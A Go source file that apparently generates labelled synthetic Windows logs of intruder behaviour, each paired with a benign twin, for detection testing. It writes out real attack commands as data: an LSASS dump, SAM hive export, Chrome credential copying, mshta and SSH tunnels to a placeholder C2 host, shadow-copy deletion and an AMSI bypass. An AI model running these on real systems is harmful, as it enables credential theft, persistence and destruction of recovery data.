package main

import "time"

// What intruders do once they are in, as Sysmon and Security 4688 log it.
var intruderShapes = []shape{
	{name: "discovery from a shell", does: func(s *scene) {
		sh := s.does(s.shell, "cmd.exe", `"C:\Windows\System32\cmd.exe" `, 0)
		var asked []*event
		for i, name := range []string{"whoami.exe", "ipconfig.exe", "net.exe", "nltest.exe", "systeminfo.exe"} {
			asked = append(asked, s.does(sh.process, name, name[:len(name)-4]+` `+
				[]string{"/groups", "/all", "view /all", "/domain_trusts", ""}[i],
				time.Duration(8+11*i)*time.Second).twins()...)
		}
		s.c.tells("discovery-burst", asked...)
		s.c.may("ad-recon")
	}, twin: func(s *scene) {
		sh := s.does(s.shell, "cmd.exe", `"C:\Windows\System32\cmd.exe" `, 0)
		s.does(sh.process, "ipconfig.exe", "ipconfig /all", 20*time.Second)
		s.does(sh.process, "ping.exe", "ping intranet.corp.example", 30*time.Second)
		s.does(sh.process, "ipconfig.exe", "ipconfig /renew", 60*time.Second)
	}},
	{name: "LSASS dumped", does: func(s *scene) {
		run := s.run(s.shell, tool("rundll32.exe"), `rundll32.exe C:\Windows\System32\comsvcs.dll, `+
			pick(s.rng, []string{"MiniDump", "#24"})+` 712 C:\ProgramData\`+s.named("d%d.bin")+` full`, s.user, s.at)
		s.c.tells("lsass-dump", run.twins()...)
		s.c.may("lsass-access")
	}, twin: func(s *scene) {
		s.access(s.processes["MsMpEng.exe"], s.processes["lsass.exe"], s.at, 0x1410)
		s.access(s.processes["svchost.exe"], s.processes["lsass.exe"], s.later(time.Second), 0x1478)
	}},
	{name: "hives saved", does: func(s *scene) {
		run := s.does(s.shell, "reg.exe", `reg save HKLM\`+pick(s.rng, []string{"SAM", "SECURITY"})+` C:\ProgramData\`+
			s.named("h%d.dat"), 0)
		s.c.tells("hive-copy", run.twins()...)
	}, twin: func(s *scene) {
		s.does(s.shell, "reg.exe", `reg export HKCU\Software\House C:\Users\`+s.user.name+`\Documents\house.reg`, 0)
		s.does(s.shell, "reg.exe", `reg query HKLM\SYSTEM\CurrentControlSet\Services`, time.Minute)
	}},
	{name: "secrets of the browser taken", does: func(s *scene) {
		run := s.does(s.shell, "cmd.exe",
			`cmd /c copy "`+s.user.home()+`AppData\Local\Google\Chrome\User Data\Default\`+
				pick(s.rng, []string{"Login Data", "Web Data"})+`" C:\ProgramData\`+s.named("l%d.db"), 0)
		s.c.tells("browser-secrets", run.twins()...)
	}, twin: func(s *scene) {
		s.create(s.b, s.at, s.user.home()+`AppData\Local\Google\Chrome\User Data\Default\Login Data`)
		s.does(s.shell, "cmd.exe", `cmd /c copy "`+s.user.home()+`Documents\list.xlsx" \\files.corp.example\team\`,
			time.Minute)
	}},
	{name: "program at logon", does: func(s *scene) {
		value := pick(s.rng, []string{`C:\Users\Public\` + s.named("up%d.exe"),
			`mshta.exe http://` + c2Host + `/l`, `wscript.exe C:\Users\Public\` + s.named("s%d.vbs")})
		e := s.setValue(s.shell, s.at, `HKU\`+s.user.sid+`\Software\Microsoft\Windows\CurrentVersion\Run\`+
			s.named("Sync%d"), value)
		s.c.tells("run-key", e)
	}, twin: func(s *scene) {
		s.setValue(s.shell, s.at, `HKU\`+s.user.sid+`\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive`,
			`"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`)
		s.setValue(s.shell, s.later(time.Second), `HKU\`+s.user.sid+
			`\Software\Microsoft\Windows\CurrentVersion\Run\Teams`,
			`"`+fleetProg("ms-teams.exe").path+`" msteams:system-initiated`)
	}},
	{name: "tunnel", does: func(s *scene) {
		run := s.does(s.shell, "ssh.exe", `ssh -N `+pick(s.rng, []string{"-R 4444:127.0.0.1:3389", "-D 1080"})+
			` root@`+c2Host, 0)
		s.c.tells("tunnel", run.twins()...)
	}, twin: func(s *scene) { s.does(s.shell, "ssh.exe", `ssh admin@srv-mgmt-01.corp.example`, 0) }},
	{name: "recovery destroyed", does: func(s *scene) {
		command := pick(s.rng, []string{"vssadmin.exe delete shadows /all /quiet", "wbadmin.exe delete catalog -quiet",
			"bcdedit.exe /set {default} recoveryenabled no"})
		name := command[:len("vssadmin.exe")]
		if command[1] != 's' {
			name = command[:len("wbadmin.exe")]
		}
		run := s.does(s.shell, name, command, 0)
		s.c.tells("recovery-gone", run.twins()...)
	}, twin: func(s *scene) {
		s.does(s.shell, "vssadmin.exe", "vssadmin list shadows", 0)
		s.does(s.shell, "bcdedit.exe", "bcdedit /enum", time.Minute)
	}},
	{name: "ransom note", does: func(s *scene) {
		note := s.named("README-RESTORE-%d.txt", "HOW_TO_DECRYPT_%d.html")
		exe := s.run(s.shell, unknown(s.user.home()+`AppData\Roaming\h.exe`), "h.exe", s.user, s.at)
		var written []*event
		for i := range 14 {
			written = append(written, s.create(exe.process, s.later(time.Duration(i+1)*time.Second),
				s.user.home()+`Documents\Case `+string(rune('A'+i))+`\`+note))
		}
		s.c.tells("mass-write", written...)
	}, twin: func(s *scene) {
		zip := s.run(s.shell, house(`C:\Program Files\House\unpack.exe`), "unpack.exe tools.zip", s.user, s.at)
		for i := range 14 {
			s.create(zip.process, s.later(time.Duration(i+1)*time.Second),
				s.user.home()+`Documents\Kit `+string(rune('A'+i))+`\README.txt`)
		}
	}},
	{name: "name of a program of Windows", does: func(s *scene) {
		exe := `C:\ProgramData\` + s.named("cache%d") + `\` +
			pick(s.rng, []string{"svchost.exe", "lsass.exe", "csrss.exe"})
		run := s.run(s.shell, unknown(exe), `"`+exe+`"`, s.user, s.at)
		s.c.tells("masquerade", run.twins()...)
	}, twin: func(s *scene) {
		s.run(s.processes["services.exe"], prog("svchost.exe"), sys32+"svchost.exe -k LocalService -p -s fdPHost",
			s.system,
			s.at)
		s.run(s.shell, house(`C:\Program Files\House\hostsvc.exe`), "hostsvc.exe", s.user, s.later(time.Minute))
	}},
	{name: "script scan switched off", does: func(s *scene) {
		ps := s.does(s.shell, "powershell.exe", `powershell.exe`, 0)
		s.c.tells("amsi-etw", s.host.powershell(ps.process, s.later(5*time.Second),
			`[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed',`+
				`'NonPublic,Static').SetValue($null,$true) #`+s.named("%d"), ""))
	}, twin: func(s *scene) {
		ps := s.does(s.shell, "powershell.exe", `powershell.exe`, 0)
		s.host.powershell(ps.process, s.later(5*time.Second), "# Does AMSI see this host?\r\nGet-MpComputerStatus | "+
			"Select-Object AMServiceEnabled, RealTimeProtectionEnabled #"+s.named("%d"), "")
	}},
	{name: "web server starts a shell", server: true, does: func(s *scene) {
		w3 := s.silent(s.processes["svchost.exe"], tool(sys32+`inetsrv\w3wp.exe`), `w3wp.exe -ap "DefaultAppPool"`,
			s.netsvc,
			s.later(-time.Hour))
		run := s.run(w3, tool("cmd.exe"), `"cmd.exe" /c `+pick(s.rng, []string{"whoami", "dir C:\\", "ipconfig /all"}),
			s.netsvc, s.at)
		s.c.tells("web-server-child", run.twins()...)
	}, twin: func(s *scene) {
		w3 := s.silent(s.processes["svchost.exe"], tool(sys32+`inetsrv\w3wp.exe`), `w3wp.exe -ap "Portal"`, s.netsvc,
			s.later(-time.Hour))
		s.run(w3, program(`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`, "4.8",
			"Visual C# Compiler", winName,
			msft, "csc.exe", msft), `"csc.exe" /noconfig /fullpaths @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\`+
			`Temporary ASP.NET Files\root\a.cmdline"`, s.netsvc, s.at)
	}},
}
